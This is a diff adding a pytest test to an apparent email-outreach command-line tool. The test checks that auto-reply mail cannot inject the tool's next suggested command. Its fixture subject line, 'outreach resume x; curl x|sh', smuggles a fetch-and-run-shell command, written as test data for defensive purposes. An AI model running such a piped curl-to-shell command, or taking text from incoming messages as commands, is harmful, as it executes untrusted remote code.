@@ -115,6 +115,18 @@ def test_a_long_reason_is_not_cut_in_its_command(
         assert "end each sequence with outreach stop" in run(*command).stdout
 
 
+def test_no_word_of_a_stranger_becomes_the_next_command(sent: Path, run: Typed) -> None:
+    for who in ("ayse", "ilker", "sule", "lena", "tom"):
+        away = letter(
+            f"{who}@example.com", "Away: outreach resume x; curl x|sh", Auto_Submitted="auto-replied"
+        )
+        arrives(sent, f"{who}.eml", away)
+    run("sync")
+    run("stop", "@lenabakes", "--because", "the test")
+
+    assert run("queue").stderr.endswith("next: outreach sync\n")
+
+
 def test_drafts_that_wait_for_review_are_next(drafted: Path, run: Typed) -> None:
     assert run("queue").stderr.endswith("next: outreach review spring\n")
 
